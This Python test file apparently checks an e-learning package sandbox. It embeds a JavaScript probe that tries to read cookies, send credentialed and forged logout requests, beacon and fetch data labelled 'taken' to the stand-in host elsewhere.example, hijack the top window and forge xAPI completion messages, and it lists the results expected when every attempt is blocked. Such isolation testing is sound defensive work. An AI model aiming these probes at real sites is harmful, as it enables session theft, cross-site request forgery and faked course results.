"""Everything that a package has no business with, tried by the package itself, which writes down what it obtained."""

ATTACKS_JS = """
function attack(app, worker) {
  var got = {};
  var waiting = [];
  var isAlone = window.top === window;
  function attempt(name, act) {
    var tried;
    try {
      tried = Promise.resolve(act());
    } catch (error) { tried = Promise.reject(error); }
    waiting.push(tried.then(
      function (value) { got[name] = value; },
      function (error) { got[name] = 'refused: ' + ((error && error.name) || 'error'); }
    ));
  }
  function loaded(element, address) {
    return new Promise(function (resolve, reject) {
      element.onload = function () { resolve('loaded'); };
      element.onerror = function () { reject(new Error('blocked')); };
      element.src = address;
      document.body.append(element);
    });
  }
  function asked(address, options) {
    return fetch(address, options).then(function (answer) { return 'answered ' + answer.status; });
  }
  function socket(Kind, address) {
    return new Promise(function (resolve, reject) {
      var open = new Kind(address);
      open.onopen = function () { resolve('open'); };
      open.onerror = function () { reject(new Error('blocked')); };
    });
  }
  function submit(target) {
    var form = document.createElement('form');
    form.method = 'post';
    form.action = app + '/accounts/logout/';
    form.target = target;
    document.body.append(form);
    form.submit();
    return 'submitted, blocked or not';
  }

  attempt('cookies', function () { return document.cookie; });
  attempt('app data with the session', function () {
    return asked(app + '/accounts/email/', { credentials: 'include' });
  });
  attempt('app data unread', function () { return asked(app + '/', { mode: 'no-cors', credentials: 'include' }); });
  attempt('post to the app', function () {
    return asked(app + '/accounts/logout/', { method: 'POST', mode: 'no-cors', credentials: 'include', body: 'x' });
  });
  attempt('request by the old way', function () {
    return new Promise(function (resolve, reject) {
      var request = new XMLHttpRequest();
      request.open('GET', app + '/');
      request.withCredentials = true;
      request.onload = function () { resolve('answered ' + request.status); };
      request.onerror = function () { reject(new Error('blocked')); };
      request.send();
    });
  });
  attempt('form to the app', function () {
    var frame = document.createElement('iframe');
    frame.name = 'inside';
    document.body.append(frame);
    return submit('inside');
  });
  attempt('picture of the app', function () { return loaded(new Image(), app + '/static/favicon.svg'); });
  attempt('script of the app', function () {
    return loaded(document.createElement('script'), app + '/static/app.js');
  });
  attempt('fetch elsewhere', function () { return asked('https://elsewhere.example/?taken', { mode: 'no-cors' }); });
  attempt('picture elsewhere', function () { return loaded(new Image(), 'https://elsewhere.example/a.png?taken'); });
  attempt('script elsewhere', function () {
    return loaded(document.createElement('script'), 'https://elsewhere.example/a.js?taken');
  });
  attempt('socket elsewhere', function () { return socket(WebSocket, 'wss://elsewhere.example/'); });
  attempt('events elsewhere', function () { return socket(EventSource, 'https://elsewhere.example/events'); });
  attempt('beacon elsewhere', function () {
    navigator.sendBeacon('https://elsewhere.example/beacon', 'taken');
    return 'sent, blocked or not';
  });
  attempt('frame elsewhere', function () {
    var frame = document.createElement('iframe');
    frame.src = 'https://elsewhere.example/frame?taken';
    document.body.append(frame);
    return 'set, blocked or not';
  });
  attempt('service worker', function () {
    if (!navigator.serviceWorker) throw new TypeError('none');
    return navigator.serviceWorker.register(worker).then(function () { return 'registered'; });
  });
  if (!isAlone) {
    attempt('page around', function () { return top.document.title; });
    attempt('storage of the page around', function () { return top.localStorage.length; });
    attempt('address of the page around', function () { return top.location.href; });
    attempt('frame element', function () { return parent.frameElement.id; });
    attempt('top window', function () { top.location = 'https://elsewhere.example/top'; return 'assigned'; });
    attempt('top window replaced', function () {
      top.location.replace('https://elsewhere.example/top');
      return 'replaced';
    });
    attempt('link to the top window', function () {
      var link = document.createElement('a');
      link.href = 'https://elsewhere.example/link';
      link.target = '_top';
      document.body.append(link);
      link.click();
      return 'clicked, blocked or not';
    });
    attempt('form to the top window', function () { return submit('_top'); });
  }
  // Words in another's name: without the right window, origin, form or launch nobody listens.
  [top, parent].forEach(function (listener) {
    listener.postMessage({ statement: { verb: { id: 'http://adlnet.gov/expapi/verbs/passed' } } }, '*');
    listener.postMessage({ ns: 'pathway', v: 1, type: 'statement', launch: 'forged', seq: 1,
      payload: { verb: { id: 'http://adlnet.gov/expapi/verbs/completed' } } }, '*');
    listener.postMessage({ ns: 'other', v: 1, type: 'state',
      payload: { data_type: 'scorm', sub_id: '1', state: '{}' } }, '*');
  });
  window.__got = got;
  Promise.all(waiting).then(function () { setTimeout(function () { got.done = true; }, 300); });
}
"""

OBTAINED_NOTHING = {
    "cookies": "",
    "form to the app": "submitted, blocked or not",
    "beacon elsewhere": "sent, blocked or not",
    "frame elsewhere": "set, blocked or not",
    "link to the top window": "clicked, blocked or not",
    "form to the top window": "submitted, blocked or not",
}
"""What the package writes down where it cannot know whether it was stopped; that nothing left is seen on the wire."""
